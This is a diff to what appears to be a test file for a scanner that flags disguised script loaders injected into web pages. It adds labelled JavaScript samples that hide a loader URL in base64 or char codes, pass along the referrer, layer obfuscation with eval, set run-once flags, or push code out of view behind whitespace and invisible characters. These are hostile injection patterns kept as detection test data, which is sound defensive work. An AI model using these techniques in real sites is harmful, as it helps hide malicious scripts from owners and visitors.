@@ -14,7 +14,11 @@ HIDDEN = f"atob('{b64(URL)}')"
 TAG = "document.createElement('script')"
 ADD = "document.head.appendChild(s);"
 LOADS = f"var s={TAG};s.src={HIDDEN};{ADD}"
-EVADING = {"masks", "fresh", "worked", "seeks", "shy", "retries", "spread"}
+EVADING = {
+    "aside", "flagged", "fresh", "invisible", "layered", "masks", "reports", "retries", "seeks",
+    "shy", "spread", "worked",
+}  # fmt: skip
+HASH = "136c1e07507f4a97"
 MENU = (
     "document.querySelectorAll('.menu .anak').forEach(function(a){a.addEventListener('click',"
     "function(e){e.preventDefault();a.classList.toggle('buka');a.querySelector('ul').hidden=!1;"
@@ -48,12 +52,47 @@ def loads(address: str) -> str:
         (LOADS.replace("'script'", "'scr'+'ipt'"), set()),
         (LOADS.replace("atob(", "self['atob']("), set()),
         (LOADS.replace("atob(", "tema['buka'+'Menu'](1);atob("), set()),
+        # Where the visitor comes from.
+        (loads(f"{HIDDEN}+'?r='+document.referrer"), {"reports"}),
+        (loads(f"{HIDDEN}+'?r='+escape(document.referrer)"), {"reports"}),
+        ("var r=encodeURIComponent(document.referrer);" + loads(f"{HIDDEN}+r"), {"reports"}),
+        (loads(f"String.fromCharCode({codes(URL)})+document.referrer"), {"reports"}),
+        (loads(f"{HIDDEN}+location.href"), set()),
+        ("if(document.referrer){" + LOADS + "}", set()),
+        ("var referrer='x';" + loads(f"{HIDDEN}+referrer"), set()),
+        # One disguise within another.
+        (loads(f"atob('{b64(URL[::-1])}').split('').reverse().join('')"), {"layered"}),
+        (loads(f"atob('{b64(URL)[::-1]}'.split('').reverse().join(''))"), {"layered"}),
+        (loads(f"window.atob(window.atob('{b64(b64(URL))}'))"), {"layered"}),
+        (f"eval(atob('{b64(LOADS)}'))", {"layered"}),
+        (f"import(atob('{b64(URL)[::-1]}'.split('').reverse().join('')))", {"layered"}),
+        (f"import({HIDDEN}+'?'+Date.now())", {"fresh"}),
+        (f"eval(atob('{b64(loads(repr(URL)))}'))", set()),
+        (loads(f"atob('{b64(URL)[:9]}'+'{b64(URL)[9:]}')"), set()),
+        (f"import({HIDDEN})", set()),
+        # A note by a name of chance.
+        (f"if(!window['{HASH}']){{window['{HASH}']=1;{LOADS}}}", {"flagged"}),
+        (f"var k='{HASH}';if(!self[k]){{self[k]=1;{LOADS}}}", {"flagged"}),
+        (f"localStorage.setItem('{HASH}',1);{LOADS}", {"flagged"}),
+        (f"window.f{HASH}=1;{LOADS}", {"flagged"}),
+        (f"window.sorot=1;window.kunci='{HASH}';{LOADS}", set()),
+        (f"var k='{HASH}';{LOADS}", set()),
+        (f"window['1234567890123456']=1;{LOADS}", set()),
+        (f"window['abcdefabcdef']=1;{LOADS}", set()),
+        (f"window['{HASH[:11]}']=1;{LOADS}", set()),
+        # Where no editor shows it.
+        (f"mulai();{' ' * 120}{LOADS}", {"aside"}),
+        (f"mulai();{' ' * 90}{LOADS}", set()),
+        (f"mulai();{' ' * 120}akhir();\n{LOADS}", set()),
+        (LOADS.replace("s=", "\u3164=").replace("s.", "\u3164."), {"invisible"}),
+        (f"var kosong='\u3164';{LOADS}", set()),
         # The time and chance.
         (loads(f"{HIDDEN}+'?'+Date.now()"), {"fresh"}),
         (loads(f"{HIDDEN}+'?'+(new Date).getTime()"), {"fresh"}),
         (loads(f"{HIDDEN}+'?'+(+new Date)"), {"fresh"}),
         ("var r=Math.random();" + loads(f"{HIDDEN}+r"), {"fresh"}),
         ("var r=Math.floor(Date.now()/6e5);" + loads(f"{HIDDEN}+r"), {"fresh"}),
+        (loads(f"String.fromCharCode({codes(URL)})+'?'+Date.now()"), {"fresh"}),
         (loads(f"{HIDDEN}+'?v=4.1'"), set()),
         (loads(f"{HIDDEN}+'?d='+new Date().getDate()"), set()),
         (loads(f"{HIDDEN}+'?d='+new Date().toISOString().slice(0,10)"), set()),
